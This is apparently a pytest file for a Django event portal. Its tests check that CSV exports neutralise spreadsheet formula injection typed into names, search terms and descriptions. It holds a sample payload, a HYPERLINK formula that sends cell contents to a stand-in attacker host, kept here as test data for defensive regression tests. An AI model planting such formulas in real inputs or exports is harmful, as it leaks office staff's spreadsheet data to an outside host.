"""No CSV the portal writes carries a live spreadsheet formula (issue 14, finding 9).

Attackers type formulas where residents type names and search terms; the office opens the exports in a
spreadsheet. Each cell that starts with = + - @ (or a tab or CR) must arrive as text: with a leading apostrophe.
"""

import csv
import datetime
import io
import json

import pytest
from django.test import Client
from django.utils import timezone

from search.models import SearchQueryLog
from tests.factories import make_event, make_office_editor, make_provider_account, make_user

FORMULA = '=HYPERLINK("http://angreifer.example/?d="&A1,"Details")'


def cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";" if b";" in body[:200] else ","))


def assert_no_live_formula(rows: list[list[str]], typed: str) -> None:
    flat = [cell for row in rows for cell in row]
    assert "'" + typed in flat  # the value is there, as text
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in flat)


@pytest.fixture
def office(client, portal):
    client.force_login(make_office_editor())
    return client


def test_registration_export_neutralises_a_formula_typed_as_a_name(client, portal):
    provider, user = make_provider_account("Volkshochschule", username="vhs")
    event = make_event(
        "Kochkurs",
        anbieter=provider,
        registration_mode="portal",
        capacity=5,
        start=timezone.now() + datetime.timedelta(days=5),
    )
    body = {
        "seite": event.pk,
        "name": FORMULA,
        "email": "a@example.org",
        "personen": 1,
        "einwilligung": True,
        "telefon": "+49 3531 1",
        "nachricht": "@SUMME(1;2)",
    }
    assert client.post("/api/v2/anmeldungen/", json.dumps(body), content_type="application/json").status_code == 201
    client.force_login(user)
    rows = cells(client.get("/admin/anmeldung/registration/?export=csv"))
    assert_no_live_formula(rows, FORMULA)
    assert "'@SUMME(1;2)" in [cell for row in rows for cell in row]


@pytest.mark.parametrize("query", ["=1+1", "@SUMME(A1)", "+49 3531", "-5 Grad"])
def test_search_log_export_neutralises_formulas_in_search_terms(client, office, query):
    assert Client().get("/api/v2/search/", {"q": query}).status_code == 200  # a resident, not signed in
    assert SearchQueryLog.objects.count() == 1
    client.force_login(make_user("admin", superuser=True))  # the query log is the administrators' (no office grant)
    response = client.get("/admin/search/searchquerylog/?export=csv")
    assert response.status_code == 200
    assert_no_live_formula(cells(response), query)


def test_provider_request_export_neutralises_a_formula_typed_as_a_description(client, office):
    from anbieter.services import submit_provider_request

    submit_provider_request(
        organisation="Verein Formel", kind="verein", contact_name="-Karl", email="k@example.org", description=FORMULA
    )
    rows = cells(client.get("/admin/anbieter/providerrequest/?export=csv"))
    assert_no_live_formula(rows, FORMULA)
    assert "'-Karl" in [cell for row in rows for cell in row]


def test_neutralise_keeps_numbers_and_harmless_text():
    from security.csvsafe import neutralise

    assert [neutralise(v) for v in (-5, 3.5, "Töpferkurs", "", None, "\tx", "\r=1")] == [
        -5,
        3.5,
        "Töpferkurs",
        "",
        None,
        "'\tx",
        "'\r=1",
    ]
